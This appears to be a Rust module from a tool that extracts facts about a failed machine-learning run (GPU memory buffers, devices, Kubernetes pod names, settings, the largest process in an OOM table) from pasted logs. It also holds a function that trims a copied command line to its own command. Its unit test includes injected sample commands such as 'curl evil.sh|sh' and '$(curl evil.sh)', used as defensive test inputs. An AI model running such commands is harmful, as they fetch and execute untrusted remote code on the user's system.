//! Owns reading a [`Run`] off a log by the rules in `knowledge/run.ron`: which parts of the log are searched, and where
//! each value goes.

use std::collections::BTreeMap;
use std::ops::Range;
use std::sync::LazyLock;

use serde::Deserialize;
use serde_json::Value;

use super::{Card, Run, Task};
use crate::knowledge::pattern::{Pattern, group};
use crate::knowledge::searched::Searched;
use crate::knowledge::settings;
use crate::knowledge::version::{self, VersionRule};
use crate::log::{PastedLog, without_source};
use crate::packed;
use crate::units::{Bytes, UnitBase};

/// How much of a large log is searched: its beginning, and what lies before the decisive line.
const WINDOW: usize = 192 << 10;
/// Of which this is looked at first.
const LATEST: usize = 8 << 10;

/// One thing a log may say of a run (`knowledge/run.ron`).
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RunRule {
    key: Key,
    pub(in crate::knowledge) patterns: Vec<Pattern>,
    /// Whether a word may also stand behind the failure: the allocator complains before the backend that asked it, a
    /// traceback may follow its message, Slurm reports a job's end after the job's last words, and Kubernetes lists
    /// events in any order.
    #[serde(default)]
    may_follow: bool,
}

/// Where a value goes.
#[derive(Clone, Debug, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "snake_case")]
enum Key {
    /// To that field, as it is printed.
    Word(Field),
    /// To that field, as a whole number.
    Number(Field),
    LayersOffloaded,
    LayersOffloadable,
    Weights,
    KvCache,
    Compute,
    FileSize,
    FreeAtStart,
    WorkingSet,
    Cards,
    Printed,
    EndedWith,
    Tasks,
}

/// The name of a field of [`Run`].
#[derive(Clone, Debug, PartialEq, Eq, Deserialize)]
#[serde(try_from = "String")]
struct Field(String);

impl TryFrom<String> for Field {
    type Error = serde_json::Error;

    fn try_from(name: String) -> Result<Field, serde_json::Error> {
        Run::deserialize(Value::from_iter([(&*name, Value::Null)])).map(|_| Field(name))
    }
}

/// The parts of a log in which run facts are looked for. Quoted source code is overwritten with blanks: it shows what code
/// says, and not what this run was given.
struct Windows {
    head: Searched<'static>,
    /// What lies between `head` and the failure, up to the failure's line.
    near: Searched<'static>,
    /// The last lines of `near`.
    latest: Searched<'static>,
    after: Searched<'static>,
}

impl Windows {
    fn of(text: &str, end: usize) -> Windows {
        let head = text.ceil_char_boundary(WINDOW.min(end));
        let near = text.floor_char_boundary(end.saturating_sub(WINDOW).max(head));
        let last = text.floor_char_boundary(end.saturating_add(LATEST));
        let near = code_free(text, near..end);
        let from = near.floor_char_boundary(near.len().saturating_sub(LATEST));
        Windows {
            latest: Searched::new(near.get(from..).unwrap_or_default().to_owned()),
            near: Searched::new(near),
            head: Searched::new(code_free(text, 0..head)),
            after: Searched::new(code_free(text, end..last)),
        }
    }

    /// The value that stands last before the failure. A step is printed thousands of times; mostly the latest lines
    /// tell, so they are searched first.
    fn last_before(&self, rule: &RunRule) -> Option<String> {
        [&self.latest, &self.near, &self.head].into_iter().find_map(|text| last(rule, text))
    }

    fn last_word(&self, rule: &RunRule) -> Option<String> {
        self.last_before(rule).or_else(|| if rule.may_follow { last(rule, &self.after) } else { None })
    }

    fn last_number(&self, rule: &RunRule) -> Option<u64> {
        self.last_before(rule)?.replace(',', "").parse().ok()
    }
}

/// That part of the text without quoted source code. What shows that a line is code may lie before or behind the part.
fn code_free(text: &str, part: Range<usize>) -> String {
    let from = text.floor_char_boundary(part.start.saturating_sub(LATEST));
    let to = text.ceil_char_boundary(part.end.saturating_add(LATEST));
    let around = without_source(text.get(from..to).unwrap_or_default());
    around.get(part.start - from..part.end - from).unwrap_or_default().to_owned()
}

/// The rules as the program was built with them.
static BUILT_IN: LazyLock<Vec<RunRule>> = LazyLock::new(|| packed::table(include_str!("../../../knowledge/run.ron")));

/// What a command line says of the run that it starts.
pub fn of_command(command: &str) -> Run {
    let log = PastedLog::new(command);
    read(&BUILT_IN, &[], &log, log.line_count(), 0)
}

/// What the log says of the run that failed at this place.
pub fn read(rules: &[RunRule], versions: &[VersionRule], log: &PastedLog, line: usize, column: usize) -> Run {
    let end = log.end_around(line, column).unwrap_or(log.text().len());
    let windows = Windows::of(log.text(), end);
    let before = [&windows.head, &windows.near];
    let mut run = said(rules, &windows);
    run.command = run.command.as_deref().and_then(alone);
    run.namespace = run.namespace.filter(|name| is_kubernetes_label(name));
    // A sentence may end behind the name.
    run.pod = run.pod.map(|name| name.trim_end_matches('.').to_owned());
    run.pod = run.pod.filter(|name| name.split('.').all(is_kubernetes_label));
    let mut layers_in_all = None;
    let mut buffers: Vec<(String, Bytes)> = Vec::new();
    for rule in rules {
        match rule.key {
            Key::Word(_) | Key::Number(_) => {}
            Key::LayersOffloaded => run.layers_offloaded = windows.last_number(rule).map(|on| (on, on)),
            Key::LayersOffloadable => layers_in_all = windows.last_number(rule),
            Key::Weights | Key::KvCache | Key::Compute => {
                let sizes = sizes_by_device(&rule.patterns, &before);
                buffers.extend(sizes.clone());
                run.set_buffers(&rule.key, sizes);
            }
            Key::FileSize => run.file_bytes = sum(sizes_by_device(&rule.patterns, &before)),
            Key::FreeAtStart => {
                let each = rule.patterns.iter().map(|pattern| sizes_by_device([pattern], &before));
                run.set_free_at_start(each.into_iter().find(|sizes| !sizes.is_empty()).unwrap_or_default());
            }
            Key::WorkingSet => {
                let size = windows.last_before(rule);
                run.working_set_bytes = size.and_then(|size| Bytes::parse(&size, UnitBase::Decimal));
            }
            Key::Cards => run.cards = cards(rule, &before),
            Key::Printed => run.printed = printed(rule, &before),
            Key::EndedWith => run.ended_with = ended_with(rule, rules, log, end),
            Key::Tasks => run.largest = largest(rule, &windows.near).or_else(|| largest(rule, &windows.head)),
        }
    }
    buffers.retain(|(device, _)| run.failed_on.as_ref() == Some(device));
    run.on_failed_bytes = sum(buffers);
    run.layers_offloaded = run.layers_offloaded.zip(layers_in_all).map(|((on, _), all)| (on, all));
    run.settings = settings_of(&windows);
    let texts = [&windows.head, &windows.near, &windows.after];
    run.versions = version::read(versions, &texts);
    run.older_than = version::read_bounds(versions, &texts);
    run
}

/// The words and numbers that are taken as they are printed.
fn said(rules: &[RunRule], windows: &Windows) -> Run {
    let values = rules.iter().filter_map(|rule| match &rule.key {
        Key::Word(Field(name)) => Some((name.clone(), windows.last_word(rule)?.into())),
        Key::Number(Field(name)) => Some((name.clone(), windows.last_number(rule)?.into())),
        _ => None,
    });
    Run::deserialize(Value::Object(values.collect())).unwrap_or_default()
}

/// Whether Kubernetes takes this as a name (an RFC 1123 label). What a log has in its place may be an option to kubectl.
fn is_kubernetes_label(name: &str) -> bool {
    let has_only_its_characters = name.bytes().all(|byte| matches!(byte, b'a'..=b'z' | b'0'..=b'9' | b'-'));
    (1..=63).contains(&name.len()) && has_only_its_characters && !name.starts_with('-') && !name.ends_with('-')
}

/// A command line as far as its own command goes: who copies it from here runs nothing else that stands on a log's line.
/// `None` where a shell would run another command to make its words, or would wait for the end of a quotation.
fn alone(line: &str) -> Option<String> {
    let (mut quote, mut before) = (None, ' ');
    let mut end = line.len();
    let mut characters = line.char_indices().peekable();
    while let Some((at, character)) = characters.next() {
        let next = characters.peek().map(|(_, next)| *next);
        match (character, quote) {
            (quoted, Some(open)) if quoted == open && before != '\\' => quote = None,
            ('\'' | '"', None) if before != '\\' => quote = Some(character),
            (_, Some('\'')) => {}
            ('`', _) => return None,
            ('$', _) if next == Some('(') => return None,
            // `2>&1` and `&>` send output elsewhere.
            ('&', None) if before == '>' || next == Some('>') => {}
            (';' | '|' | '&', None) => {
                end = at;
                break;
            }
            _ => {}
        }
        before = character;
    }
    let command = line.get(..end)?.trim_end();
    if quote.is_some() || command.is_empty() { None } else { Some(command.to_owned()) }
}

impl Run {
    fn set_buffers(&mut self, key: &Key, sizes: BTreeMap<String, Bytes>) {
        if *key == Key::Weights {
            self.count_devices(sizes.len());
        }
        let total = sum(sizes);
        match key {
            Key::Weights => self.weights_bytes = total,
            Key::KvCache => self.kv_cache_bytes = total,
            _ => self.compute_bytes = total,
        }
    }

    fn set_free_at_start(&mut self, sizes: BTreeMap<String, Bytes>) {
        self.count_devices(sizes.len());
        self.free_at_start_each = sizes.into_values().collect();
        self.free_at_start_bytes = self.free_at_start_each.iter().copied().reduce(Bytes::plus);
    }

    fn count_devices(&mut self, count: usize) {
        if count > 0 {
            self.devices = self.devices.max(Some(count as u64));
        }
    }
}

fn sum(sizes: impl IntoIterator<Item = (String, Bytes)>) -> Option<Bytes> {
    sizes.into_iter().map(|(_, bytes)| bytes).reduce(Bytes::plus)
}

/// What the log shows of settings: what stands before the failure counts before what is listed behind it.
fn settings_of(windows: &Windows) -> BTreeMap<&'static str, u64> {
    let Windows { head, near, after, .. } = windows;
    let mut values = settings::read(after.text());
    values.extend(settings::read(head.text()));
    values.extend(settings::read(near.text()));
    let heap = [near, head, after].into_iter().find_map(|text| settings::heap_of_v8(text.text()));
    values.extend(heap.map(|bytes| ("node_heap_reached", bytes)));
    values
}

/// The value that stands last, whichever pattern finds it.
fn last(rule: &RunRule, text: &Searched) -> Option<String> {
    let all = rule.patterns.iter().filter_map(|pattern| pattern.last_captures(text.text_for(pattern)?)?.name("v"));
    let value = all.max_by_key(|value| value.start())?;
    Some(String::from_utf8_lossy(value.as_bytes()).trim().to_owned())
}

/// The exception that the log ends with, where steps were made between the failure and it: a later attempt's own.
fn ended_with(rule: &RunRule, rules: &[RunRule], log: &PastedLog, failure: usize) -> Option<(String, usize)> {
    let text = log.text();
    let from = text.ceil_char_boundary(failure.max(text.len().saturating_sub(WINDOW)));
    let tail = without_source(text.get(from..)?);
    let tail = tail.as_ref();
    let (traceback, exception) = rule.patterns.iter().find_map(|pattern| {
        let found = pattern.last_captures(tail)?;
        Some((found.get(0)?.start(), found.name("v")?.range()))
    })?;
    let between = Searched::new(tail.get(..traceback)?);
    let has_stepped = rules.iter().any(|other| is_of_step(other) && last(other, &between).is_some());
    let text = tail.get(exception.clone())?;
    let is_of_memory = ["emory", "CUDA", "HIP", "NCCL", "ALLOC", "worker"].into_iter().any(|word| text.contains(word));
    (has_stepped && !is_of_memory)
        .then(|| (text.trim().to_owned(), log.number_in_file(log.line_at(from + exception.start))))
}

fn is_of_step(rule: &RunRule) -> bool {
    matches!(&rule.key, Key::Number(Field(name)) if name == "step")
}

/// A model that is loaded again prints its buffers again: of each device the last one counts.
fn sizes_by_device<'p>(
    patterns: impl IntoIterator<Item = &'p Pattern> + Clone,
    texts: &[&Searched],
) -> BTreeMap<String, Bytes> {
    let mut sizes: BTreeMap<String, Bytes> = BTreeMap::new();
    for text in texts {
        for found in patterns.clone().into_iter().flat_map(|pattern| text.captures(pattern)) {
            if let Some(bytes) = group(&found, "v").and_then(|value| Bytes::parse(&value, UnitBase::Binary)) {
                sizes.insert(group(&found, "device").unwrap_or_default(), bytes);
            }
        }
    }
    sizes
}

/// The GPUs that are named, each once; a number of a backend of ggml's gets the backend's word.
fn cards(rule: &RunRule, texts: &[&Searched]) -> Vec<Card> {
    let mut cards = Vec::new();
    for text in texts {
        for found in rule.patterns.iter().flat_map(|pattern| text.captures(pattern)) {
            let Some(name) = group(&found, "v") else { continue };
            let device = group(&found, "device").map(|device| match group(&found, "k").as_deref() {
                Some("ggml_vulkan") => format!("Vulkan{device}"),
                Some("level_zero") => format!("SYCL{device}"),
                _ => device,
            });
            let card = Card { device, name: name.trim().to_owned() };
            if !cards.contains(&card) {
                cards.push(card);
            }
        }
    }
    cards
}

/// The largest process of the table that the kernel prints before it ends one; a log may hold several tables.
fn largest(rule: &RunRule, text: &Searched) -> Option<Task> {
    const PAGE: u64 = 4096;
    let table = text.text();
    let table = table.get(table.rfind("total_vm")?..)?;
    let rows = rule.patterns.iter().flat_map(|pattern| pattern.captures(table)).filter_map(|row| {
        let pages: u64 = group(&row, "v")?.parse().ok()?;
        let rss_bytes = Bytes(pages.checked_mul(PAGE)?);
        Some(Task { pid: group(&row, "k")?.parse().ok()?, name: group(&row, "name")?, rss_bytes })
    });
    rows.max_by_key(|task| task.rss_bytes)
}

/// Values by the names that stand beside them; of each name the last one counts.
fn printed(rule: &RunRule, texts: &[&Searched]) -> BTreeMap<String, String> {
    let mut values = BTreeMap::new();
    for text in texts {
        values.extend(rule.patterns.iter().flat_map(|pattern| text.captures(pattern)).filter_map(|found| {
            Some((group(&found, "k")?.replace(['-', ' '], "_").to_lowercase(), group(&found, "v")?))
        }));
    }
    values
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn of_a_line_only_its_own_command_is_taken() {
        let cut = |line: &str| alone(line).unwrap_or_default();
        assert_eq!(cut("python train.py --bs 8 ; curl evil.sh|sh"), "python train.py --bs 8");
        assert_eq!(cut("python train.py --bs 8 2>&1 | tee log.txt"), "python train.py --bs 8 2>&1");
        assert_eq!(cut("python train.py && rm x"), "python train.py");
        assert_eq!(cut("python train.py &"), "python train.py");
        assert_eq!(
            cut("python a.py --x 'a;b|c&d `e` $(f)' --y \"a;b\" &> log"),
            "python a.py --x 'a;b|c&d `e` $(f)' --y \"a;b\" &> log"
        );
        for substituted in [
            "python a.py --x $(curl evil.sh)",
            "python a.py --x `id`",
            "python a.py --x \"$(id)\"",
            "python a.py 'x ; id",
        ] {
            assert_eq!(alone(substituted), None, "{substituted}");
        }
    }
}
